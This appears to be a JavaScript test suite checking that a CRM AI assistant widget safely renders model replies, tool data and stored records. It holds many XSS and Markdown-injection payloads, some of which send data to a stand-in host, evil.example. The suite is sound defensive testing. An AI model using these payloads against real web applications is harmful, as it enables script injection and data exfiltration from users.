// No script of a model, a record or a tool runs, and no request leaves the origin, in whatever place the text stands.
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { test } from "node:test";
import { ROOT, startWorld } from "./harness.mjs";
import { CHAT, confirmation, stream, text } from "./streams.mjs";
import { assertClean, last, say, textOf } from "./talk.mjs";

const EVIL = "https://evil.example/leak?data=secret";
const HTML = [
  "<script>window.pwned=1</script>",
  "<img src=x onerror=window.pwned=1>",
  "<svg onload=window.pwned=1></svg>",
  "<svg><script>window.pwned=1</script></svg>",
  "<svg><animate onbegin=window.pwned=1 attributeName=x></svg>",
  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "<iframe src=javascript:parent.pwned=1></iframe>",
  "<object data=javascript:window.pwned=1></object>",
  "<embed src=javascript:window.pwned=1>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
  "<math><mi xlink:href='data:x,<script>window.pwned=1</script>'>",
  "<form action=javascript:window.pwned=1><button>go</button></form>",
  "<button formaction=javascript:window.pwned=1>go</button>",
  "<details open ontoggle=window.pwned=1>",
  "<input autofocus onfocus=window.pwned=1>",
  "<video><source onerror=window.pwned=1></video>",
  "<body onload=window.pwned=1>",
  "<base href=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<link rel=prefetch href=https://evil.example/a>",
  "<style>@import 'https://evil.example/a.css';</style>",
  "<style>*{background:url(https://evil.example/b)}</style>",
  "<p style='background:url(https://evil.example/c)'>x</p>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<template><img src=x onerror=window.pwned=1></template>",
  "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
  "<a href='java\tscript:window.pwned=1'>a</a>",
  "<a href='\u0001javascript:window.pwned=1'>a</a>",
  "<audio src=https://evil.example/d autoplay>",
  "<img srcset='https://evil.example/e 1x'>",
  "<picture><source srcset=https://evil.example/f><img></picture>",
  "<div is=aisha-assistant api=https://evil.example></div>",
  "<aisha-assistant api=https://evil.example></aisha-assistant>",
  "<form id=x><input name=attributes><input name=nodeName></form>",
  "<listing>&lt;img onerror=window.pwned=1 src=x&gt;</listing>",
];
const MARKDOWN = [
  `![a](${EVIL})`,
  `![a][r]\n\n[r]: ${EVIL}`,
  `[![a](${EVIL})](${EVIL})`,
  `<${EVIL}>`,
  "[click](javascript:window.pwned=1)",
  "[click](JaVaScRiPt:window.pwned=1)",
  "[click](&#106;avascript:window.pwned=1)",
  "[click](data:text/html,<script>window.pwned=1</script>)",
  "[click](vbscript:window.pwned=1)",
  "[click](//evil.example/x)",
  "[click](file:///etc/passwd)",
  `| a |\n|---|\n| ![a](${EVIL}) |`,
  "```html\n<img src=x onerror=window.pwned=1>\n```",
  '[a](https://evil.example "x\\" onmouseover=\\"window.pwned=1")',
];

const world = await startWorld();
let page;

const ALLOWED = /^(p|br|strong|em|del|code|pre|ul|ol|li|a|span|table|thead|tbody|tr|th|td|div|blockquote|h[3-5]|hr)$/;

/** Return the elements and attributes of a message's text that Markdown has no use for. */
async function forbiddenIn(message) {
  const found = await message.evaluate((one) =>
    [...one.shadowRoot.querySelectorAll(".prose *")].flatMap((part) => [
      part.localName,
      ...part.getAttributeNames().filter((name) => name.startsWith("on") || ["src", "srcset", "style"].includes(name)),
    ]),
  );
  return found.filter((name) => !ALLOWED.test(name));
}

/** Press every link and button of the last message that can't leave the page, then look for damage. */
async function assertHarmless(place) {
  await page.waitForTimeout(50);
  assert.equal(await page.evaluate(() => window.pwned), undefined, `a script ran in ${place}`);
  assert.deepEqual(page.foreign, [], `a request left the origin from ${place}`);
  assert.deepEqual(page.errors, [], `errors in ${place}`);
  assert.equal(await page.locator("aisha-assistant").count(), 1);
}

test("markup and Markdown in a reply do nothing, whole and while it streams", async () => {
  page = await world.open();
  for (const payload of [...HTML, ...MARKDOWN]) {
    const pieces = payload.match(/[\s\S]{1,7}/g).map((delta) => ({ type: "text-delta", id: "t", delta }));
    world.fail(CHAT, stream({ type: "text-start", id: "t" }, ...pieces, { type: "text-end", id: "t" }));
    await say(page, "x");
    assert.deepEqual(await forbiddenIn(last(page)), [], payload);
    await assertHarmless(payload);
  }
});

test("the payloads of DOMPurify's own tests do nothing", async () => {
  const { payloads } = JSON.parse(await readFile(join(ROOT, "web", "tests", "fixtures", "dompurify.json"), "utf8"));
  page = await world.open();
  await page.addInitScript(() => {
    window.alert = window.confirm = window.prompt = () => (window.pwned = 1);
  });
  await page.reload();
  // Many in one answer, each a paragraph of its own: a turn for each would take minutes.
  for (let place = 0; place < payloads.length; place += 20) {
    const parts = payloads.slice(place, place + 20).flatMap((payload) => text(payload));
    world.fail(CHAT, stream(...parts));
    await say(page, "x");
    assert.deepEqual(await forbiddenIn(last(page)), [], `payloads from ${place}`);
    await assertHarmless(`payloads from ${place}`);
  }
});

test("what a record, a note and a document say runs nothing and asks nobody, over the whole way", async () => {
  const evil = `<img src=x onerror=window.pwned=1> ![a](${EVIL}) <script>window.pwned=1</script>`;
  await world.call("PUT", "/api/ai/documents/returns", {
    title: `Returns ${evil}`,
    description: evil,
    text: `Returns: 30 days. ${evil}`,
  });
  const tool = (name, args) =>
    world.call("POST", "/mcp", { jsonrpc: "2.0", id: 1, method: "tools/call", params: { name, arguments: args } });
  const { result } = await tool("create_lead", {
    first_name: "Eve",
    last_name: `Zarathustra ${evil}`,
    company: `Foo ${evil}`,
  });
  const { id } = result.structuredContent.record;
  await tool("create_note", { entity_type: "lead", entity_id: id, content: `Likes golf ${evil}` });
  page = await world.open({ query: `?record-type=lead&record-id=${id}` });
  for (const question of [
    "Tell me about Eve Zarathustra",
    "Show her notes",
    "What is our rule for returns?",
    "delete the lead Eve Zarathustra",
  ]) {
    await say(page, question);
    await assertHarmless(question);
  }
  const all = await textOf(page.locator("aisha-transcript"));
  for (const shown of [/Zarathustra/, /Likes golf/, /30 days/, /Exactly this will be done/]) assert.match(all, shown);
});

test("markup in a name, a source, a question, an argument and a follow-up is text", async () => {
  page = await world.open();
  for (const payload of HTML.slice(0, 12)) {
    const source = { type: "lead", id: "lead_1", name: payload, description: payload };
    world.fail(
      CHAT,
      stream(
        {
          type: "tool-input-available",
          toolCallId: "c",
          toolName: payload,
          input: { [payload]: payload, nested: { a: [payload] } },
        },
        { type: "tool-output-error", toolCallId: "c", errorText: payload },
        { type: "data-entities", data: [{ ...source, aliases: [] }] },
        {
          type: "data-conclusions",
          data: { sources: [source], insights: [payload], nextSteps: [payload], recommendedScans: [payload] },
        },
        { type: "data-followups", data: [{ text: payload, icon: payload }] },
        { type: "data-mood", data: { sentiment: payload, emoji: payload, color: payload } },
        ...text(payload),
        confirmation({ question: payload, tool: payload, arguments: { lead_id: "lead_1", text: payload } }),
      ),
    );
    await say(page, payload);
    await assertHarmless(payload);
  }
  assert.match(await textOf(page.locator("aisha-message").nth(0)), /<script>window\.pwned=1<\/script>/);
  await assertClean(page, "markup");
});

test("a lead with markup for a name is found and deleted like any other", async () => {
  page = await world.open();
  const name = "<img src=x onerror=window.pwned=1>";
  world.fail(
    CHAT,
    stream(
      confirmation({
        isDestructive: true,
        tool: "delete_lead",
        question: `Shall I delete **${name}**?`,
        arguments: { lead_id: name },
      }),
    ),
  );
  await say(page, "delete it");
  assert.ok((await textOf(last(page))).includes(name));
  await assertHarmless("question");
});

test("a link shows its host, opens apart, and says nothing about this page", async () => {
  page = await world.open();
  world.fail(CHAT, stream(...text("See [https://crm.example/safe](https://evil.example/x) or mail <a@b.example>.")));
  await say(page, "x");
  const link = last(page).locator(".prose a").first();
  assert.equal(await link.innerText(), "https://crm.example/safe (evil.example)");
  assert.deepEqual(await link.evaluate((one) => [one.target, one.rel, one.referrerPolicy]), [
    "_blank",
    "noopener noreferrer nofollow",
    "no-referrer",
  ]);
  await assertClean(page, "links");
});

test("the page is served with the headers of a strict page", async () => {
  const response = await fetch(`${world.api}/desk/assistant.js`);
  const policy = response.headers.get("content-security-policy");
  assert.doesNotMatch(policy, /unsafe|\*/);
  for (const part of [
    "default-src 'none'",
    "script-src 'self'",
    "frame-ancestors 'none'",
    "require-trusted-types-for 'script'",
  ]) {
    assert.ok(policy.includes(part), part);
  }
  assert.equal(response.headers.get("x-content-type-options"), "nosniff");
  assert.equal(response.headers.get("referrer-policy"), "no-referrer");
  assert.equal((await fetch(`${world.api}/desk/missing.js`)).status, 404);
});
